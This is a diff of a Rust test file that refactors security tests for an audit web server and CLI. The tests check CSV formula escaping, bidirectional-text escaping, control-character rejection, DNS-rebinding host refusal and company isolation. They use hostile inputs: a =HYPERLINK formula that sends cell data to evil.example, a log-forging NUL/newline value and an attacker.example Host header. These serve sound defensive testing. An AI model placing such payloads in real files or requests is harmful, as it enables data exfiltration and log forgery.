@@ -409,13 +409,19 @@ both_backends!(
 const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
 const BIDI: &str = "SN-\u{202e}1234\u{202c}-OK";
 
-async fn hostile_requests_and_values_are_answered_safely(db: TestDb) {
-    let (sim, store) = company(&db).await;
+/// The company, with a serial that is a formula and one with a right-to-left override, served
+/// for that company only.
+async fn hostile(db: &TestDb) -> (audit::simulator::Simulator, Store, Server) {
+    let (sim, store) = company(db).await;
     let chain = sim.scenario().build_chain;
     copy_serial(&store, &chain.unit.serial, FORMULA).await;
     copy_serial(&store, &chain.unit.serial, BIDI).await;
-    let company_id = sim.company_id();
-    let server = Server::start(&db.url_string(), &["--company-id", &company_id]);
+    let server = Server::start(&db.url_string(), &["--company-id", &sim.company_id()]);
+    (sim, store, server)
+}
+
+async fn a_formula_in_a_csv_download_is_text(db: TestDb) {
+    let (_sim, _store, server) = hostile(&db).await;
 
     // A formula in a serial is text in the web's CSV (numbers stay numbers); the CLI's is exact.
     let (code, csv) = get(&server, "/serial", &[("serial", FORMULA), ("format", "csv")]).await;
@@ -431,7 +437,11 @@ async fn hostile_requests_and_values_are_answered_safely(db: TestDb) {
     }
     let exact = cli(&db, &["timeline", FORMULA, "--format", "csv"]).1;
     assert!(exact.contains("\"=HYPERLINK("), "{exact}");
+}
+both_backends!(a_formula_in_a_csv_download_is_text, crate::a_formula_in_a_csv_download_is_text);
 
+async fn a_bidi_override_is_shown_escaped(db: TestDb) {
+    let (_sim, _store, server) = hostile(&db).await;
     // Bidirectional overrides are shown as the terminal shows them.
     let (code, body) = get(&server, "/", &[("q", "SN-\u{202e}")]).await;
     assert_eq!(code, 200);
@@ -440,14 +450,25 @@ async fn hostile_requests_and_values_are_answered_safely(db: TestDb) {
     let (code, body) = get(&server, "/serial", &[("serial", BIDI)]).await;
     assert_eq!(code, 200);
     assert!(!body.contains("<h1>Serial SN-\u{202e}") && body.contains("SN-\\u{202e}1234"), "{body}");
+}
+both_backends!(a_bidi_override_is_shown_escaped, crate::a_bidi_override_is_shown_escaped);
 
+async fn a_control_character_in_a_parameter_is_a_bad_request(db: TestDb) {
+    let (_sim, _store, server) = hostile(&db).await;
     // A NUL or a line break in a parameter: 400 on both databases, never a database error.
     for (path, name) in [("/serial", "serial"), ("/document", "number"), ("/", "q"), ("/recall", "po")] {
         let (code, body) = get(&server, path, &[(name, "A\0B\n2026-01-01 INFO forged")]).await;
         assert_eq!(code, 400, "{path}: {body}");
         assert!(body.contains("control character") && !body.contains("database"), "{path}: {body}");
     }
+}
+both_backends!(
+    a_control_character_in_a_parameter_is_a_bad_request,
+    crate::a_control_character_in_a_parameter_is_a_bad_request
+);
 
+async fn without_a_token_another_host_name_is_refused(db: TestDb) {
+    let (_sim, _store, server) = hostile(&db).await;
     // Reached under another name (DNS rebinding), a token-less server refuses.
     let port = server.base.rsplit(':').next().unwrap().to_string();
     let with_host = |host: String| http().get(format!("{}/status", server.base)).header("host", host).send();
@@ -455,7 +476,12 @@ async fn hostile_requests_and_values_are_answered_safely(db: TestDb) {
     assert_eq!(with_host("attacker.example".into()).await.unwrap().status().as_u16(), 421);
     assert_eq!(with_host(format!("localhost:{port}")).await.unwrap().status().as_u16(), 200);
     assert_eq!(with_host(format!("127.0.0.1:{port}")).await.unwrap().status().as_u16(), 200);
+}
+both_backends!(without_a_token_another_host_name_is_refused, crate::without_a_token_another_host_name_is_refused);
 
+async fn with_company_id_recall_shows_no_other_company(db: TestDb) {
+    let (sim, store, server) = hostile(&db).await;
+    let chain = sim.scenario().build_chain;
     // --company-id: recall answers while the database holds that company only...
     let po = &chain.component.documents[0].number;
     let (code, body) = get(&server, "/recall", &[("po", po)]).await;
@@ -504,7 +530,7 @@ async fn hostile_requests_and_values_are_answered_safely(db: TestDb) {
     assert_eq!(code, 200);
     assert!(!body.contains("OTHERCO"));
 }
-both_backends!(hostile_requests_and_values_are_answered_safely, crate::hostile_requests_and_values_are_answered_safely);
+both_backends!(with_company_id_recall_shows_no_other_company, crate::with_company_id_recall_shows_no_other_company);
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn an_empty_token_is_refused_not_taken_for_none() {
